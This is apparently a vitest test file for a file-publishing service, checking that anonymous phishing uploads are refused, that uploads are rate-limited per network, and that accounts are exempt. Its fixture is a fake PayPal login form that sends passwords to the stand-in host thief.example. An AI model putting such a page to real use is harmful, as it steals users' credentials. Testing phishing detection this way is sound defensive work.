import { Readable } from 'node:stream'
import { attemptLimits } from '@plinth/domain/accounts/attempt-limits'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { admitAttempts } from '../access/admit-attempts.ts'
import { loadOwned, openRealStores, type RealStores, signUp } from '../real-stores.test-support.ts'
import { publishAnonymously } from './publish-anonymously.ts'
import { publishMarkdownAnonymously } from './publish-markdown-anonymously.ts'
import { uploadFile } from './upload-file.ts'
import type { UploadPart } from './upload-part.ts'

const phishingPage =
  '<h1>Log in to PayPal</h1><form action="https://thief.example"><input type="password"></form>'
const anonymous = { network: '203.0.113.1', browserId: null }

async function* upload(filename: string, content: string): AsyncGenerator<UploadPart> {
  yield { kind: 'file', field: 'file', filename, content: Readable.from([Buffer.from(content)]) }
}

let stores: RealStores
beforeAll(async () => {
  stores = await openRealStores()
})
afterAll(() => stores.remove())

test.each([
  [
    'HTML',
    () => publishAnonymously(stores.deps, anonymous, { parts: upload('a.html', phishingPage) }),
  ],
  [
    'a Markdown file',
    () => publishAnonymously(stores.deps, anonymous, { parts: upload('a.md', phishingPage) }),
  ],
  [
    'Markdown',
    () => publishMarkdownAnonymously(stores.deps, anonymous, { markdown: phishingPage }),
  ],
])('phishing as %s is refused without an account, with its reasons', async (_, publish) => {
  await expect(publish()).rejects.toMatchObject({
    code: 'content_rejected',
    detail: expect.stringMatching(/asks for a password; .*PayPal.*; it sends the input/),
  })
  const limits = { perHour: 1, perHourUnproven: 1, perDay: 1, perSessionDay: 1 }
  const { anonymousPublishes } = stores.deps.database.read
  expect(await anonymousPublishes.findDeciding([{ ...anonymous, limits }])).toMatchObject([
    { deciding: { perHour: null } },
  ])
})

test('uploads of a network are rate-limited, and invalid ones do not count', async () => {
  const network = '203.0.113.2'
  const { most } = attemptLimits.anonymous_upload_network
  const attempt = { kind: 'anonymous_upload_network', key: network } as const
  for (let tries = 0; tries < most; tries++) await admitAttempts(stores.deps, [attempt])
  const publish = (parts: AsyncIterable<UploadPart>) =>
    publishAnonymously(stores.deps, { network, browserId: null }, { parts })
  const { perHour } = stores.deps.anonymousAllowances.standard
  const unsupported = { code: 'unsupported_file_type' }
  for (let tries = 0; tries < perHour; tries++) {
    await expect(publish(upload('a.html', phishingPage))).rejects.toMatchObject({
      code: 'content_rejected',
    })
    await expect(publish(upload('a.png', phishingPage))).rejects.toMatchObject(unsupported)
  }
  await expect(publish(upload('a.html', phishingPage))).rejects.toMatchObject({
    code: 'rate_limited',
    detail: expect.stringContaining('uploads from your network'),
  })
  await expect(publish(upload('a.png', phishingPage))).rejects.toMatchObject(unsupported)
})

test('accounts are exempt', async () => {
  const { actor, drop: id } = await signUp(stores.deps, 'free')
  const drop = await loadOwned(stores.deps, actor, id)
  const input = { drop, parts: upload('a.html', phishingPage) }
  expect((await uploadFile(stores.deps, actor, input)).version.number).toBe(1)
})
